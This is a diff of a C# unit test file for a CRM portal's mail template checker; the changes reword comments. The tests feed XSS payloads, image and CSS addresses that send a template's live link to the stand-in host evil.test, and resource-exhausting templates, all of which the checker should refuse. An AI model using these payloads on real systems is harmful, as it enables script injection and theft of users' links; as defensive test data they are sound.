@@ -3,7 +3,7 @@ using OpenCrm.Portal.Mail;
 
 namespace OpenCrm.Portal.Tests.Mail;
 
-/// <summary>Spec 6.2 and A20 of the abuse suite: what is refused at Save, and where it stands.</summary>
+/// <summary>What Save refuses in a template, and at which place (docs/spec.md 6.2; case A20 of docs/threats.md).</summary>
 public sealed class TemplateCheckTests
 {
     private static readonly TemplateCheck Check = new();
@@ -79,7 +79,7 @@ public sealed class TemplateCheckTests
             Check.Check(template, new(new string('s', 501), full + "x", full + "x")));
     }
 
-    /// <summary>Sixty thousand characters can ask for a hundred million.</summary>
+    /// <summary>A template of sixty thousand characters can grow to a hundred million.</summary>
     [Fact]
     public void A_text_that_grows_beyond_what_a_mail_may_hold_is_refused()
     {
@@ -102,7 +102,7 @@ public sealed class TemplateCheckTests
         Assert.Empty(Html("🙂"));
     }
 
-    /// <summary>Values that people choose stand in such places: a user named <c>javascript:…</c>.</summary>
+    /// <summary>Values that people choose are put in such places: a user may be named <c>javascript:…</c>.</summary>
     [Theory]
     [InlineData("<script>alert(1)</script>"), InlineData("<SCRIPT SRC=//evil.test/x.js>"), InlineData("<script/x>alert(1)</script>"), InlineData("<img src=x onerror=alert(1)>")]
     [InlineData("<svg/onload=alert(1)>"), InlineData("<body onload=alert(1)>"), InlineData("<iframe srcdoc='x'>"), InlineData("<object data=x>")]
@@ -121,7 +121,7 @@ public sealed class TemplateCheckTests
         Assert.All(faults, fault => Assert.IsType<TemplateFault.ActiveContent>(fault));
     }
 
-    /// <summary>The first would send the live link with the mail's opening.</summary>
+    /// <summary>An image with the link in its address would send the live link as soon as the mail is opened.</summary>
     [Theory]
     [InlineData("<img src=\"https://evil.test/?{{ link }}\">"), InlineData("<img src=\"{{ link }}\">"), InlineData("<table background='https://evil.test/?{{ link }}'>"), InlineData("<p style=\"background: url(https://evil.test/?{{ link }})\">x")]
     [InlineData("<style>p { background: url(https://evil.test/?{{ link }}) }</style>"), InlineData("<a href=\"https://evil.test/?{{ link }}\">x</a>"), InlineData("<a href=\"{{ link }}?x=1\">x</a>")]
@@ -165,7 +165,7 @@ public sealed class TemplateCheckTests
     public void No_image_holds_a_field(string html)
     {
         var fault = Html($"<p>\n{html}").OfType<TemplateFault.FieldInImage>();
-        // Some are no harmless address either.
+        // Some of these addresses are refused as active content instead.
         if (!fault.Any()) Assert.All(Html($"<p>\n{html}"), other => Assert.IsType<TemplateFault.ActiveContent>(other));
         Assert.NotEmpty(Html($"<p>\n{html}"));
     }
@@ -177,7 +177,7 @@ public sealed class TemplateCheckTests
     [InlineData("@(1+1) ${x} @System.Diagnostics.Process.Start(1) { { } } %}")]
     public void HTML_of_mails_is_not(string html) => Assert.Empty(Html(html));
 
-    /// <summary>A20.</summary>
+    /// <summary>Checking a template may not become a way to keep the portal busy.</summary>
     [Fact]
     public void Whatever_is_typed_is_judged_within_a_tenth_of_a_second()
     {
@@ -188,16 +188,16 @@ public sealed class TemplateCheckTests
             string.Concat(Enumerable.Range(0, 5_000).Select(i => $"{{{{ x{i} }}}}")), Many("{% if sent_by %}"), "{% for i in (1..1000000000) %}x{% endfor %}",
             "{{ sent_by" + Many("[sent_by") + "}}", Many("<"), Many("{{ sent_by | upcase }}"), Many("{% assign a = at %}"), Many("\n"), Many("{% if at %}<b>{% endif %}"), Many("&#106;"), Growing,
         ];
-        // The parser and the regular expressions are compiled with the first.
+        // The first check compiles the parser and the regular expressions.
         Html("{{ nobody }}");
         Assert.All(corpus, source =>
         {
             var best = TimeSpan.MaxValue;
-            // The machine is shared: a slow moment is no fault of the text, nor is time that other processes had.
+            // The machine is shared: neither a slow moment nor the time that other processes take is the template's fault.
             for (var tries = 0; tries < 20 && best > TimeSpan.FromMilliseconds(100); tries++)
             {
                 var (watch, used) = (Stopwatch.StartNew(), Environment.CpuUsage.TotalTime);
-                // What was parsed once is kept: each try is new.
+                // Parsed templates are cached, so each try uses a new text.
                 Html(source.Length < 60_000 - tries ? source + new string(' ', tries) : source);
                 best = new[] { best, watch.Elapsed, Environment.CpuUsage.TotalTime - used }.Min();
             }
